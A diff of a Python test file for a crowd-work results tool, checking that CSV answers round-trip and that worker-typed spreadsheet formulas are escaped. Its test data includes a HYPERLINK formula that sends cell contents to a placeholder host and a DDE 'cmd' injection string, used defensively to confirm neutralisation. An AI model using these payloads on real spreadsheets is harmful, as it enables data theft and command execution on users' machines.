@@ -2,15 +2,26 @@
 
 import csv
 import io
+import json
 import re
+import tempfile
+from contextlib import closing
+from datetime import UTC, datetime
 from pathlib import Path
 
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
+from sqlalchemy import update
 
-from simpleturk.batch.results.csv import COLUMNS, ResultsTable, csv_row
+from simpleturk.batch.inputs import csv_reader
+from simpleturk.batch.inputs.csv_inputs import Table
+from simpleturk.batch.inputs.jsonl import Input
+from simpleturk.batch.old_batch import read_old_batch
+from simpleturk.batch.results.csv import COLUMNS, ResultsTable, csv_row, merging
+from simpleturk.errors import Problem
 from simpleturk.marketplace.domain.marketplace import Marketplace
+from simpleturk.marketplace.store.schema import assignments
 from simpleturk.mturk.models import Assignment
 from tests.conftest import Files, Run, do, records
 
@@ -162,23 +173,123 @@ def states(run: Run) -> list[tuple[str, str | None]]:
     return [(record["status"], record.get("feedback")) for record in found]
 
 
-TEXT = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0\r"))
+TEXT = st.text(st.characters(exclude_categories=["Cs"]) | st.sampled_from("'\"=+-@;,\t\r\n|(!\uff1d"), max_size=20)
 
 
-@given(answers=st.lists(st.dictionaries(TEXT.filter(bool), TEXT, max_size=4), max_size=6))
-def test_any_answer_is_read_back_from_its_cell(answers: list[dict[str, str]]) -> None:
-    sheet = ResultsTable()
-    for number, fields in enumerate(answers):
-        row = dict.fromkeys(COLUMNS, "") | {"AssignmentId": str(number), "HITId": "H"}
-        sheet.add(row | {f"Answer.{name}": text for name, text in fields.items()})
-    text = "".join(sheet.text())
-    sheet.close()
-    found = rows(text)
+def table(*answers: dict[str, str], **inputs: str) -> str:
+    """The table of these answers."""
+    with closing(ResultsTable()) as sheet:
+        for number, fields in enumerate(answers):
+            row = dict.fromkeys(COLUMNS, "") | {"AssignmentId": str(number), "HITId": "H"} | inputs
+            sheet.add(row | {f"Answer.{name}": text for name, text in fields.items()})
+        return "".join(sheet.text())
+
+
+@given(answers=st.lists(st.dictionaries(TEXT, TEXT, max_size=4), max_size=6))
+def test_any_answer_is_read_back_from_its_row(answers: list[dict[str, str]]) -> None:
+    found = list(csv_reader.records(io.BytesIO(table(*answers).encode()), "r.csv", "AssignmentId"))
     assert len(found) == len(answers)
-    for row, fields in zip(found, answers, strict=True):
-        assert {name[7:]: cell for name, cell in row.items() if name.startswith("Answer.") and cell} == {
-            name: value for name, value in fields.items() if value
+    for item, fields in zip(found, answers, strict=True):
+        assert not isinstance(item, Problem)
+        assert {name: text for name, text in csv_reader.fields_of_row(item[1]) if text} == {
+            name: text for name, text in fields.items() if text
         }
+
+
+@given(text=TEXT, name=TEXT.filter(lambda name: name == name.strip() != ""))
+def test_any_input_of_a_results_file_is_read_back_as_an_input(text: str, name: str) -> None:
+    with tempfile.TemporaryDirectory() as folder:
+        path = Path(folder) / "r.csv"
+        path.write_bytes(table({"a": "1"}, **{f"Input.{name}": text}).encode())
+        [item] = Table(path)
+    assert isinstance(item, Input)
+    assert item.value == {name: text}
+
+
+@given(cell=TEXT)
+def test_a_row_stays_the_same_whenever_new_rows_are_added(cell: str) -> None:
+    with tempfile.TemporaryDirectory() as folder:
+        path = Path(folder) / "r.csv"
+        for number in range(3):
+            with merging(path) as sheet:
+                row = dict.fromkeys(COLUMNS, "") | {"AssignmentId": str(number), "HITId": "H", "Answer.a": cell}
+                sheet.add(row)
+        found = list(csv_reader.records(io.BytesIO(path.read_bytes()), "r.csv", "AssignmentId"))
+    assert [item[1]["Answer.a"] for item in found if not isinstance(item, Problem)] == [cell] * 3
+
+
+# Formulas, and answers with thousands of fields
+
+FORMULA = '=HYPERLINK("http://x.example/?"&A1,"ok")'
+
+
+def test_formulas_in_answers_and_inputs_are_text_and_return_unchanged(
+    batch_files: Files, run: Run, local: Marketplace
+) -> None:
+    batch_files([{"w": "@SUM(1)"}], template="<form>{{ input.w }}<input name=a>")
+    run("launch")
+    name = "x;=cmd|' /C calc'!A0"
+    do(local, Path("hit_ids.txt").read_text().strip(), "ann", ("a", FORMULA), ("n", "-5"), (name, "+1-1"))
+    assert run("results", "--output", "r.csv").exit_code == 0
+    [row] = rows(Path("r.csv").read_text())
+    assert row["Answer.a"] == "'" + FORMULA
+    assert (row["Answer.n"], row["Input.w"], row["Answer.x;'=cmd|' /C calc'!A0"]) == ("-5", "'@SUM(1)", "'+1-1")
+    batch = read_old_batch(Path("r.csv"), "Approved", datetime.now(UTC))
+    [hit] = batch.hits.values()
+    assert hit["Assignments"][0]["Fields"] == [["a", FORMULA], ["n", "-5"], [name, "+1-1"]]
+    assert batch.inputs == {hit["HITId"]: {"w": "@SUM(1)"}}
+    assert [item.value for item in Table(Path("r.csv")).values()] == [{"w": "@SUM(1)"}]
+
+
+def test_exact_cells_are_what_workers_typed(words: list[str], local: Marketplace, run: Run) -> None:
+    do(local, words[0], "ann", ("answer", FORMULA))
+    assert rows(run("results", "--format", "csv").stdout)[0]["Answer.answer"] == "'" + FORMULA
+    assert rows(run("results", "--format", "csv", "--exact").stdout)[0]["Answer.answer"] == FORMULA
+
+
+def test_formulas_of_an_older_file_become_text_and_what_the_reviewer_wrote_stays(
+    words: list[str], local: Marketplace, run: Run
+) -> None:
+    do(local, words[0], "ann", ("answer", FORMULA))
+    run("results", "--output", "r.csv", "--exact")
+    sheet = list(csv.reader(io.StringIO(Path("r.csv").read_text(), newline="")))
+    sheet[0].append("Mine")
+    sheet[1][-1] = "- too short"
+    sheet[1].append("=B2*2")
+    file = io.StringIO(newline="")
+    csv.writer(file).writerows(sheet)
+    Path("r.csv").write_text(file.getvalue(), newline="")
+    do(local, words[1], "bob", ("answer", "b"))
+    run("results", "--output", "r.csv")
+    first = rows(Path("r.csv").read_text())[0]
+    assert (first["Answer.answer"], first["Reject"], first["Mine"]) == ("'" + FORMULA, "- too short", "=B2*2")
+
+
+def test_thousands_of_fields_in_one_answer_share_a_column(words: list[str], local: Marketplace, run: Run) -> None:
+    do(local, words[0], "ann", ("answer", "a"), ("tag", "t"))
+    do(local, words[1], "bob", ("answer", "b"), ("tag", "u"))
+    # Amazon's marketplace and others may send what this one refuses.
+    many = [(f"f{number}", "=1+1") for number in range(19_000)]
+    with local.write() as transaction:
+        fields = [["answer", "c"], ["tag", "v"], *map(list, many)]
+        which = assignments.c.worker_id == "bob"
+        transaction.execute(update(assignments).where(which).values(fields=fields))
+    assert run("results", "--output", "r.csv").exit_code == 0
+    first, second = rows(Path("r.csv").read_text())
+    assert list(first)[len(COLUMNS) + 1 :] == ["Answer.answer", "Answer.tag", "OtherAnswers", "Approve", "Reject"]
+    assert (first["OtherAnswers"], json.loads(second["OtherAnswers"])) == ("", dict(many))
+    batch = read_old_batch(Path("r.csv"), "Approved", datetime.now(UTC))
+    assert batch.hits[words[1]]["Assignments"][0]["Fields"] == fields
+    do(local, words[0], "cora", ("answer", "d"))
+    run("results", "--output", "r.csv")
+    assert [row["Answer.answer"] for row in rows(Path("r.csv").read_text())] == ["a", "c", "d"]
+    assert run("approve", "--assignments", "r.csv").exit_code == 0
+
+
+def test_a_new_file_named_tsv_has_tabs(done: list[str], run: Run) -> None:
+    assert run("results", "--output", "r.tsv").stderr == "3 new results in r.tsv; it holds 3\n"
+    assert run("results", "--output", "r.tsv").stderr == "0 new results in r.tsv; it holds 3\n"
+    assert len(rows(Path("r.tsv").read_text(), delimiter="\t")) == 3
 
 
 # What a person has in the file
